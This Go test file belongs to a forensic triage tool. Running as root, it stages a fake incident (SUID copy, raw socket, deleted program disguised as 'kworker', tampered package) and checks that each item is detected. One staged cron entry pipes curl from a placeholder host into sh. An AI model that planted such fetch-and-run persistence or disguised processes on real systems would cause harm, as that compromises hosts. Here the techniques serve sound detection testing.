package main

import (
	"bytes"
	"crypto/md5"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hozen-dfir/hozen/artifact"
)

// The re-executed test binary holds a raw socket open when asked to.
func init() {
	if os.Getenv("HOZEN_E2E_CHILD") != "raw-socket" {
		return
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err != nil {
		fmt.Fprintln(os.Stderr, "raw socket:", err)
		os.Exit(3)
	}
	defer syscall.Close(fd)
	fmt.Println("ready")
	time.Sleep(5 * time.Minute) // killed by the test
	os.Exit(0)
}

// stagedItem is one part of the staged incident and the finding a
// responder gets for it with the triage profile: its rule, and its host
// path or its pid.
type stagedItem struct {
	what  string
	rule  string
	path  string
	pid   int
	title string // a word the finding's title must hold, if any
}

// TestStagedIncident stages an incident on this machine (root only) and
// collects it with the triage profile: a cron job that pipes curl into sh,
// an executable in /dev/shm, a SUID copy of a binary in /var/tmp, a process
// holding a raw socket, a program running from /tmp whose file was
// deleted, and a program of a package the test installs (where dpkg is)
// changed after installation. Each must be a finding in findings.json, and
// the deleted program's preserved bytes must hash to the original's
// SHA-256. It removes everything it staged, purges its package and stops
// the processes it started, whether it passes or fails.
func TestStagedIncident(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("stages an incident in /etc/cron.d, /dev/shm, /var/tmp and the dpkg database: needs root")
	}
	if testing.Short() {
		t.Skip("a whole triage collection of this machine")
	}
	tag := "hozen-e2e-" + randHex(t)
	cleanup := func(p string) { t.Cleanup(func() { os.RemoveAll(p) }) }
	writeFile := func(p string, b []byte, mode os.FileMode) {
		t.Helper()
		cleanup(p)
		if err := os.WriteFile(p, b, mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	trueBin, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Skip("no /bin/true to copy:", err)
	}
	sleepBin, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Skip("no /bin/sleep to copy:", err)
	}

	// 1. A cron job that fetches a script into sh (on 31 February: never run).
	cronFile := "/etc/cron.d/" + tag
	writeFile(cronFile, []byte("0 0 31 2 * root curl -fsSL http://192.0.2.1/stage2.sh | sh\n"), 0o644)
	// 2. An executable in /dev/shm.
	shmFile := "/dev/shm/" + tag
	writeFile(shmFile, trueBin, 0o755)
	// 3. A SUID copy of a binary in /var/tmp.
	suidDir := "/var/tmp/" + tag
	cleanup(suidDir)
	if err := os.Mkdir(suidDir, 0o755); err != nil {
		t.Fatal(err)
	}
	suidFile := filepath.Join(suidDir, "true")
	writeFile(suidFile, trueBin, 0o755|os.ModeSetuid)
	// 4. A process holding a raw socket: this test binary, re-executed.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	raw := exec.Command(self)
	raw.Env = append(os.Environ(), "HOZEN_E2E_CHILD=raw-socket")
	rawOut, _ := raw.StdoutPipe()
	if err := raw.Start(); err != nil {
		t.Fatal(err)
	}
	stopProcess(t, raw)
	if line, _ := readLine(rawOut); line != "ready" {
		t.Fatalf("raw-socket child said %q", line)
	}
	// 5. A program run from /tmp, its file deleted while it runs.
	tmpDir, err := os.MkdirTemp("/tmp", tag)
	if err != nil {
		t.Fatal(err)
	}
	cleanup(tmpDir)
	sleeper := filepath.Join(tmpDir, "kworker")
	writeFile(sleeper, sleepBin, 0o755)
	del := exec.Command(sleeper, "300")
	if err := del.Start(); err != nil {
		t.Skipf("cannot run a program from /tmp (noexec?): %v", err)
	}
	stopProcess(t, del)
	time.Sleep(100 * time.Millisecond) // let it exec before the file goes
	if err := os.Remove(sleeper); err != nil {
		t.Fatal(err)
	}
	sleepSum := sha256.Sum256(sleepBin)
	// 6. A program of a package installed for the purpose, changed since.
	pkgProg, noPkg := stagePackage(t, "hozen-staged-"+tag[len("hozen-e2e-"):])

	out := t.TempDir()
	var stdout, stderr bytes.Buffer
	if code := run([]string{"collect", "--profile", "triage", "--out", out, "--case", "e2e"}, nil, &stdout, &stderr); code != 0 {
		t.Fatalf("collect: exit %d\n%s", code, stderr.String())
	}
	files := bundleEntries(t, strings.TrimSpace(stdout.String()))
	var fd artifact.Findings
	if err := json.Unmarshal(files[artifact.PathFindings], &fd); err != nil {
		t.Fatalf("findings.json: %v", err)
	}

	// The rules a responder gets with triage: the filesystem collector's
	// suid-file runs in the full profile only, so the SUID copy is the
	// temporary places' exec-in-tmp finding, which names the set-ID bit.
	items := []stagedItem{
		{what: "cron job piping curl into sh", rule: "persistence-download-exec", path: cronFile},
		{what: "executable in /dev/shm", rule: "exec-in-tmp", path: shmFile, title: "ELF"},
		{what: "SUID copy in /var/tmp", rule: "exec-in-tmp", path: suidFile, title: "set-user-ID"},
		{what: "process holding a raw socket", rule: "raw-socket", pid: raw.Process.Pid},
		{what: "deleted program running from /tmp", rule: "deleted-exe", pid: del.Process.Pid},
	}
	if pkgProg != "" {
		items = append(items, stagedItem{what: "modified program of a package", rule: "package-file-modified", path: pkgProg})
	}
	for _, it := range items {
		if !slices.Contains(fd.Rules, it.rule) {
			t.Errorf("%s: rule %s did not run; rules that ran: %v", it.what, it.rule, fd.Rules)
			continue
		}
		i := slices.IndexFunc(fd.Findings, func(f artifact.Finding) bool {
			return f.Rule == it.rule && (it.path != "" && string(f.Path) == it.path || it.pid != 0 && f.PID == it.pid)
		})
		if i < 0 {
			t.Errorf("%s (%s%s): no %s finding", it.what, it.path, pidText(it.pid), it.rule)
			if it.rule == "package-file-modified" {
				t.Logf("dpkg_verify.json: %.600s", files[artifact.PathDpkgVerify]) // a bound hit?
			}
			continue
		}
		f := fd.Findings[i]
		t.Logf("%s: %s %s: %s", it.what, f.Severity, f.Rule, f.Title)
		if f.Severity != artifact.SeverityHigh || !strings.Contains(f.Title, it.title) {
			t.Errorf("%s: finding %s %q, want high, its title naming %q", it.what, f.Severity, f.Title, it.title)
		}
	}

	// The deleted program is hashed, and its bytes are preserved: the
	// stored copy hashes to the original's SHA-256.
	want := hex.EncodeToString(sleepSum[:])
	var pt artifact.ProcessTable
	if err := json.Unmarshal(files[artifact.PathProcesses], &pt); err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(pt.Processes, func(p artifact.Process) bool { return p.PID == del.Process.Pid })
	if i < 0 {
		t.Fatalf("pid %d not in processes.json", del.Process.Pid)
	}
	if p := pt.Processes[i]; !p.ExeDeleted || p.ExeHash == nil || p.ExeHash.SHA256 != want {
		t.Errorf("pid %d: exe_deleted %v, exe hash %+v; want deleted, sha256 %s", p.PID, p.ExeDeleted, p.ExeHash, want)
	}
	kept, ok := files[artifact.DirPreservedExe+want]
	if got := sha256.Sum256(kept); !ok || hex.EncodeToString(got[:]) != want {
		t.Errorf("preserved program %s%s: stored %v, its bytes hash to %x", artifact.DirPreservedExe, want, ok, got)
	}
	if noPkg != "" {
		t.Skipf("all else asserted; not the modified package file: %s", noPkg)
	}
}

// stagePackage builds a package named name with dpkg-deb that installs one
// small program, /usr/local/bin/NAME (a program directory the packages
// collector checks in triage), with its MD5 in DEBIAN/md5sums as dpkg-deb
// packages carry it; installs it with dpkg -i, purged at cleanup whatever
// the outcome; and changes the installed program. It returns the
// program's path, or why it could not stage the package.
func stagePackage(t *testing.T, name string) (prog, why string) {
	t.Helper()
	for _, tool := range []string{"dpkg", "dpkg-deb"} {
		if _, err := exec.LookPath(tool); err != nil {
			return "", "no " + tool + " here"
		}
	}
	if _, err := os.Stat("/var/lib/dpkg/status"); err != nil {
		return "", "no dpkg database here"
	}
	prog = "/usr/local/bin/" + name
	if _, err := os.Lstat(prog); err == nil {
		return "", prog + " exists already: not overwritten"
	}
	build := t.TempDir()
	body := []byte("#!/bin/sh\necho hozen staged package\n")
	sum := md5.Sum(body)
	for p, c := range map[string]string{
		"DEBIAN/control": "Package: " + name + "\nVersion: 1.0\nArchitecture: all\nMaintainer: hozen tests <tests@hozen.invalid>\n" +
			"Description: hozen staged-incident test package\n a program the test changes after installing it; purged by the test\n",
		"DEBIAN/md5sums": hex.EncodeToString(sum[:]) + "  " + prog[1:] + "\n",
		prog[1:]:         string(body),
	} {
		full := filepath.Join(build, "pkg", p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(filepath.Join(build, "pkg", prog[1:]), 0o755); err != nil {
		t.Fatal(err)
	}
	deb := filepath.Join(build, name+".deb")
	if out, err := exec.Command("dpkg-deb", "--root-owner-group", "--build", filepath.Join(build, "pkg"), deb).CombinedOutput(); err != nil {
		t.Fatalf("dpkg-deb --build: %v\n%s", err, out)
	}
	// Purge at cleanup, registered before the install so that a failed
	// or interrupted install is undone too.
	t.Cleanup(func() {
		if out, err := dpkg("--purge", name); err != nil {
			t.Errorf("dpkg --purge %s: %v\n%s", name, err, out)
		}
		if _, err := os.Lstat(prog); err == nil {
			t.Errorf("%s still there after the purge", prog)
		}
	})
	if out, err := dpkg("-i", deb); err != nil {
		t.Fatalf("dpkg -i %s: %v\n%s", deb, err, out)
	}
	if err := os.WriteFile(prog, []byte("#!/bin/sh\necho changed after installation\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return prog, ""
}

// dpkg runs dpkg with args, retrying for a while when another dpkg or apt
// holds the database's lock.
func dpkg(args ...string) ([]byte, error) {
	for try := 0; ; try++ {
		out, err := exec.Command("dpkg", args...).CombinedOutput()
		if err == nil || try == 30 || !bytes.Contains(out, []byte("lock")) {
			return out, err
		}
		time.Sleep(time.Second)
	}
}

func pidText(pid int) string {
	if pid == 0 {
		return ""
	}
	return fmt.Sprintf("pid %d", pid)
}

func randHex(t *testing.T) string {
	b := make([]byte, 4)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// stopProcess kills the process the test started, by its pid, at cleanup.
func stopProcess(t *testing.T, c *exec.Cmd) {
	t.Cleanup(func() {
		c.Process.Kill()
		c.Wait()
	})
}

func readLine(r io.Reader) (string, error) {
	var b []byte
	one := make([]byte, 1)
	for len(b) < 256 {
		n, err := r.Read(one)
		if n == 1 {
			if one[0] == '\n' {
				break
			}
			b = append(b, one[0])
		}
		if err != nil {
			return string(b), err
		}
	}
	return string(b), nil
}
